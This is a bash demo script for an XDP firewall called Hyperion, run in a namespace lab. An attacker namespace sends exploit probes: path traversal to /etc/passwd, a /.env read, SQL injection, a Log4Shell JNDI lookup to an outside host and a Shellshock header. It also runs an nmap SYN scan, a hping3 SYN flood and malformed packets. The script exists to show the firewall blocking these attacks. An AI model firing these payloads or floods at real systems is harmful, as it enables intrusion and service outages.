#!/usr/bin/env bash
# `make demo`: a lab of namespaces, hyperiond with scripts/default.lua on the server, real traffic from a
# client and an attacker, and a running commentary of what the firewall saw and did. Under a minute.
#
# The client fetches a page over IPv4 and IPv6 five times a second the whole time. The attacker sends
# exploit probes (signatures), an nmap SYN scan, a hping3 SYN flood, a UDP datagram carrying a
# signature and a burst of malformed packets. Events and bans are printed as they happen (sampled: one
# line per kind and source per second), then a summary. Ctrl-C cleans up.
set -u
cd "$(dirname "$0")/.." || exit 1
LAB_ID=$$
source scripts/lab.sh
POLICY=${POLICY:-scripts/default.lua}
T0=$(date +%s.%N)
FEED_PID='' CLIENT_PID=''

if [ -t 1 ] || [ -n "${FORCE_COLOR:-}" ]; then
	B=$'\033[1m' D=$'\033[2m' R=$'\033[31m' G=$'\033[32m' Y=$'\033[33m' C=$'\033[36m' N=$'\033[0m'
	export FORCE_COLOR=1
else
	B='' D='' R='' G='' Y='' C='' N=''
fi
elapsed() { awk -v t0="$T0" -v t1="$(date +%s.%N)" 'BEGIN { printf "%5.1fs", t1 - t0 }'; }
step=0
act() {
	local t="$*" fill=
	[ "$step" -ge 3 ] && counters
	step=$((step + 1))
	[ ${#t} -lt 70 ] && fill=$(printf '─%.0s' $(seq 1 $((70 - ${#t}))))
	printf '\n%s%s── %d. %s %s%s\n' "$B" "$C" "$step" "$t" "$fill" "$N"
}
say() { printf '  %s%s%s %s\n' "$D" "$(elapsed)" "$N" "$*"; }
# After each act: what the datapath counted during it (verdict reasons that moved, drops first).
declare -A PREV=()
counters() {
	local line="" r v d
	while read -r _ verdict r v; do
		d=$((v - ${PREV[$verdict/$r]:-0})); PREV[$verdict/$r]=$v   # monitor-mode series share reason names
		[ "$d" -gt 0 ] || continue
		case $verdict in
		drop) line+="${R}$r +$d${N}  " ;;
		monitor) line+="${Y}would-$r +$d${N}  " ;;
		*) line+="$r +$d  " ;;
		esac
	done < <(labtool stats 2>/dev/null | awk '$1 == "verdict" { print $1, $2, $3, $4 }' | sort -k2,2)
	[ -n "$line" ] && printf '  %s%s counted%s %s\n' "$D" "$(elapsed)" "$N" "$line"
}
result() {   # rc: curl's exit code for an attack probe
	if [ "$1" -eq 0 ]; then printf '%sanswered%s' "$R" "$N"; else printf '%sno answer: dropped%s' "$G" "$N"; fi
}

cleanup() {
	trap - INT TERM
	[ -n "$FEED_PID" ] && kill "$FEED_PID" 2>/dev/null
	[ -n "$CLIENT_PID" ] && kill "$CLIENT_PID" 2>/dev/null
	lab_down
	wait 2>/dev/null
}
trap cleanup EXIT
trap 'printf "\n%sinterrupted: cleaning up the lab%s\n" "$Y" "$N"; exit 130' INT TERM

[ "$(id -u)" = 0 ] || { echo "make demo needs root (network namespaces, XDP)" >&2; exit 1; }
for t in nmap hping3 curl ncat; do command -v "$t" >/dev/null || { echo "missing $t: run make deps" >&2; exit 1; }; done
[ -x "$HYPERIOND" ] && [ -x "$HYPERIONCTL" ] || { echo "build first: make all" >&2; exit 1; }

printf '\n%s╭──────────────────────────────────────────────────────────────────────────────╮%s\n' "$B" "$N"
printf '%s│  Hyperion demo: a stateful L7 firewall in XDP, reacting from Lua              │%s\n' "$B" "$N"
printf '%s╰──────────────────────────────────────────────────────────────────────────────╯%s\n' "$B" "$N"

act "the lab"
lab_up
lab_start_http >/dev/null || exit 1
printf '  %-9s %-13s %-15s %s\n' server "$LAB_SERVER4" "$LAB_SERVER6" "hyperiond on $LAB_IF, HTTP on :80" \
	client "$LAB_CLIENT4" "$LAB_CLIENT6" "fetches a page over v4 and v6 every 0.2 s" \
	attacker "$LAB_ATTACKER4" "$LAB_ATTACKER6" "and .67-.75 (v4), $LAB_ATTACKER_NET6::67-75 (v6)"

act "hyperiond with $POLICY"
lab_start_daemon "$POLICY" || exit 1
ctl status 2>/dev/null | grep -E '^(policy|interface):' | sed 's/^/  /'
say "datapath attached, policy running"

# Live commentary: events (sampled to one line per kind and source per second) and every new ban.
printf '\n  %s%s  %-9s %-44s %s%s\n' "$D" "  time" "what" "packet" "details" "$N"
# Started as python itself, not through the labtool function: a backgrounded function is a subshell,
# and killing it would leave the python process running after the demo.
"$LAB_PY" "$LAB_DIR/labtool.py" feed "$T0" &
FEED_PID=$!

# The legitimate client: v4 and v6 requests every 0.2 s (bounded), one line per request in client.log.
(
	for i in $(seq 1 400); do
		[ -e "$LAB_DIR/stop" ] && break
		cli curl -s -o /dev/null --max-time 2 "http://$LAB_SERVER4/index.html" && echo ok4 || echo fail4
		cli curl -s -o /dev/null --max-time 2 "http://[$LAB_SERVER6]/index.html" && echo ok6 || echo fail6
		sleep 0.2
	done >"$LAB_DIR/client.log"
) &
CLIENT_PID=$!
sleep 1.5

probe() {   # label src url [curl args...]
	local label=$1 src=$2 url=$3; shift 3
	att curl -s -o /dev/null -g --path-as-is --max-time 1 --interface "$src" "$@" "$url"
	local rc=$?
	local a=$src; [[ $a == *:* ]] && a="[$a]"
	att ss -K -tn src "$a" >/dev/null 2>&1   # the kernel would retransmit the dropped request for minutes
	echo "$rc" >>"$LAB_DIR/probes"
	say "$(printf '%-16s %-40s → %s' "$src" "$label" "$(result "$rc")")"
}

act "exploit probes in HTTP requests (signatures from scripts/signatures.rules)"
probe "GET /../../etc/passwd" 192.0.2.66 "http://$LAB_SERVER4/../../etc/passwd"
probe "GET /.git/config" 192.0.2.66 "http://$LAB_SERVER4/.git/config"
probe "GET /?q=1 UNION SELECT password" 192.0.2.66 "http://$LAB_SERVER4/?q=1%20UNION%20SELECT%20password"
probe "GET /.env (v6)" "$LAB_ATTACKER6" "http://[$LAB_SERVER6]/.env"
probe 'User-Agent: ${jndi:ldap://…}' 192.0.2.67 "http://$LAB_SERVER4/" -H 'User-Agent: ${jndi:ldap://198.51.100.99/a}'
probe 'X-Api: () { :; }; /bin/sh (v6)' "$LAB_ATTACKER_NET6::67" "http://[$LAB_SERVER6]/" -H 'X-Api: () { :; }; /bin/sh'
sleep 1

act "SYN port scans: nmap -sS, ports 1-1000, from 192.0.2.68 and $LAB_ATTACKER_NET6::68 at once"
t_scan=$(date +%s.%N)
# a fixed rate: nmap would otherwise slow down to a crawl once its probes go unanswered
att timeout 30 nmap -n -Pn -sS -e eth0 -S 192.0.2.68 --max-retries 0 --min-rate 300 --max-rate 300 -p 1-1000 \
	"$LAB_SERVER4" >"$LAB_DIR/nmap4.out" 2>&1 &
nmap4=$!
att timeout 30 nmap -6 -n -Pn -sS -e eth0 -S "$LAB_ATTACKER_NET6::68" --max-retries 0 --min-rate 300 --max-rate 300 \
	-p 1-1000 "$LAB_SERVER6" >"$LAB_DIR/nmap6.out" 2>&1 &
nmap6=$!
ban4='' ban6=''
for _ in $(seq 1 300); do
	kill -0 "$nmap4" 2>/dev/null || kill -0 "$nmap6" 2>/dev/null || break
	[ -z "$ban4" ] && lab_banned 192.0.2.68 && ban4=$(awk -v a="$t_scan" -v b="$(date +%s.%N)" 'BEGIN { printf "%.1f", b - a }')
	[ -z "$ban6" ] && lab_banned "$LAB_ATTACKER_NET6::68" &&
		ban6=$(awk -v a="$t_scan" -v b="$(date +%s.%N)" 'BEGIN { printf "%.1f", b - a }')
	sleep 0.1
done
wait "$nmap4" "$nmap6"
scan_s=$(awk -v a="$t_scan" -v b="$(date +%s.%N)" 'BEGIN { printf "%.1f", b - a }')
open4=$(grep -E '^[0-9]+/tcp +open' "$LAB_DIR/nmap4.out" | cut -d/ -f1 | tr '\n' ' ')
open6=$(grep -E '^[0-9]+/tcp +open' "$LAB_DIR/nmap6.out" | cut -d/ -f1 | tr '\n' ' ')
say "both scans finished after ${scan_s}s; open ports nmap saw: v4 ${open4:-none} / v6 ${open6:-none} (80 is open: seen only if probed before the ban)"
[ -n "$ban4" ] && say "v4 scanner banned ${ban4}s into its scan, v6 scanner ${ban6:-never}s: the rest of their probes were dropped"
open_ports="$open4 $open6"
banned_at=$ban4

act "SYN flood on port 80 from 192.0.2.69: hping3, 3 s at ~10 000 packets/s"
att timeout 3 hping3 -q -S -p 80 -a 192.0.2.69 -i u100 "$LAB_SERVER4" >/dev/null 2>&1
sleep 1.5

act "UDP datagram with \${jndi: to port 53 from 192.0.2.70, malformed packets from 192.0.2.71"
labtool_in "$LAB_NS_ATTACKER" udp-send 192.0.2.70 "$LAB_SERVER4" 53 '${jndi:ldap://198.51.100.99/x}' >/dev/null
mac=$(lab_server_mac)
if "$LAB_PY" -c 'import scapy' 2>/dev/null; then
	labtool_in "$LAB_NS_ATTACKER" malformed 192.0.2.71 "$LAB_SERVER4" "$mac" >/dev/null 2>&1
	labtool_in "$LAB_NS_ATTACKER" malformed "$LAB_ATTACKER_NET6::71" "$LAB_SERVER6" "$mac" >/dev/null 2>&1
	say "sent 220 malformed packets (bad IHL, TCP data offset, SYN+FIN, NULL, truncated headers, long IPv6 chains)"
fi
sleep 1.5

act "hot reload while the client keeps fetching: SIGHUP, then hyperionctl reload"
nb=$(labtool bans 2>/dev/null | wc -l)
kill -HUP "$LAB_DAEMON_PID"; sleep 0.5
if out=$(ctl reload 2>&1); then say "reload: $out"; else say "${R}reload failed: $out$N"; fi
say "bans before: $nb, after: $(labtool bans 2>/dev/null | wc -l); the client's requests keep succeeding (see the summary)"
sleep 1

touch "$LAB_DIR/stop"
wait "$CLIENT_PID" 2>/dev/null
CLIENT_PID=
kill "$FEED_PID" 2>/dev/null
wait "$FEED_PID" 2>/dev/null
FEED_PID=

# ---- summary ---------------------------------------------------------------------------------------------
act "summary"
ok4=$(grep -c '^ok4' "$LAB_DIR/client.log"); f4=$(grep -c '^fail4' "$LAB_DIR/client.log")
ok6=$(grep -c '^ok6' "$LAB_DIR/client.log"); f6=$(grep -c '^fail6' "$LAB_DIR/client.log")
np=$(wc -l <"$LAB_DIR/probes"); nd=$(grep -vc '^0$' "$LAB_DIR/probes")
row() { printf '  %-46s %s\n' "$1" "$2"; }
col() { if [ "$1" -eq 0 ]; then printf '%s%s%s' "$G" "$2" "$N"; else printf '%s%s%s' "$R" "$2" "$N"; fi; }
row "legitimate client requests, IPv4" "$ok4 ok, $(col "$f4" "$f4 failed")"
row "legitimate client requests, IPv6" "$ok6 ok, $(col "$f6" "$f6 failed")"
row "exploit probes dropped" "$nd of $np"
row "nmap: ports seen open of 2 x 1000 probed" "$(echo "$open_ports" | wc -w)${banned_at:+ (banned after ${ban4}s / ${ban6:-?}s)}"

printf '\n  %sbans%s\n' "$B" "$N"
labtool bans 2>/dev/null | sort -t. -k4n | while IFS=$'\t' read -r cidr ttl hits reason; do
	printf '  %s%-22s%s ttl %-8s dropped %-7s %s\n' "$R" "$cidr" "$N" "${ttl}s" "$hits" "$reason"
done
printf '\n  %spackets by verdict%s\n' "$B" "$N"
labtool stats 2>/dev/null | awk -v r="$R" -v g="$G" -v n="$N" '
	$1 == "verdict" && $4 > 0 { printf "  %s%-6s%s %-22s %10d\n", ($2 == "drop" ? r : g), $2, n, $3, $4 }'
labtool stats 2>/dev/null | awk '
	$1 == "counter" { c[$2] = $3 } $1 == "runtime" { c[$2] = $3 }
	END { printf "\n  events: %d delivered, %d sampled away, %d lost; Lua hook calls %d (errors %d); bans added %d\n",
		c["events_submitted"], c["events_sampled"], c["events_lost"], c["hook_calls"], c["hook_errors"], c["bans_added"] }'
printf '  demo time: %s\n' "$(elapsed | tr -d ' ')"
if [ $((f4 + f6)) -eq 0 ]; then
	printf '\n  %s%severy legitimate request succeeded while the attacks ran%s\n\n' "$B" "$G" "$N"
else
	printf '\n  %s%s%d legitimate requests failed%s\n\n' "$B" "$R" $((f4 + f6)) "$N"
fi
